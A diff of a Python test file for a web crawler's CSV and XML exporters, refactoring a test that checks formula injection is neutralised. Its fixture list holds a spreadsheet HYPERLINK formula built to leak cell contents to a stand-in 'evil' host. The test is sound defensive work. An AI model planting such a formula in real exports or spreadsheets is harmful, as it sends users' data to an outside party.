@@ -15,6 +15,8 @@ import pytest
 from framework.cli import main
 from framework.exporters import csv_safe, xml_text
 from framework.workspace import ItemWrite, NewRow, Outcome, Workspace
+from tests.crawl.test_crawl_hostile import DETAIL_BY_URL
+from tests.crawl.test_crawl_hostile import _write_spec as write_spec
 
 FORMULAS = [
     '=HYPERLINK("http://evil/?leak="&A1)',
@@ -108,30 +110,14 @@ def test_xml_text_keeps_what_xml_can_carry() -> None:
     assert xml_text("\x00\x1f\ud800\uffff") == "\ufffd" * 4
 
 
-FEED_SPEC = """\
-name: hostile
-source_type: hostile
-start_urls: ["{base}/"]
-pages:
-  list:
-    follow: {{css: "a::attr(href)", to: detail}}
-  detail:
-    id: {{url: '([^/]+)$'}}
-    fields:
-      title: {{css: "h1::text"}}
-"""
-
-
 @pytest.mark.process
 def test_a_crawls_csv_and_xml_feeds_are_written_as_export_writes_them(
     hostile_server: Any, tmp_path: Path, crawl_cli: Any
 ) -> None:
     site = hostile_server()
     site.route("/", '<html><body><a href="/p1">1</a></body></html>')
-    site.route("/p1", f"<html><body><h1>{FORMULAS[0]}</h1></body></html>")
-    spec = tmp_path / "projects" / "hostile" / "job.yaml"
-    spec.parent.mkdir(parents=True)
-    spec.write_text(FEED_SPEC.format(base=site.url), encoding="utf-8")
+    site.route("/p1", FORMULAS[0])  # the page's whole text is the record's `text`
+    spec = write_spec(tmp_path, DETAIL_BY_URL.format(base=site.url))
     csv_out, xml_out = tmp_path / "feed.csv", tmp_path / "feed.xml"
     r = crawl_cli(
         "crawl", str(spec), "--workspace", str(tmp_path / "ws"), "-q",
@@ -141,4 +127,4 @@ def test_a_crawls_csv_and_xml_feeds_are_written_as_export_writes_them(
     assert "'" + FORMULAS[0] in _cells(csv_out)
     assert [c for c in _cells(csv_out) if c.startswith("=")] == []
     root = ET.parse(xml_out).getroot()  # noqa: S314 - our own file
-    assert [i.findtext("title") for i in root] == [FORMULAS[0]]
+    assert [i.findtext("text") for i in root] == [FORMULAS[0]]
